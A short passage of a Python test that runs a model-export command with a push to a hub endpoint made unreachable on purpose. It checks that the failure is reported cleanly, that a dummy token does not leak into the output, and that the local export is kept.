    offline = {"HF_ENDPOINT": "http://127.0.0.1:9", "HF_TOKEN": "hf_secret_test_token", "HF_HUB_DISABLE_TELEMETRY": "1"}
    proc = aa("export", finished_run, tmp_path / "new", "--push-to-hub", "someone/digits", env=offline)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr and "hf_secret_test_token" not in proc.stderr + proc.stdout
    assert proc.stderr.strip().splitlines()[-1].startswith("error: cannot push ")
    assert (tmp_path / "new" / "model.safetensors").is_file()  # the export itself is kept
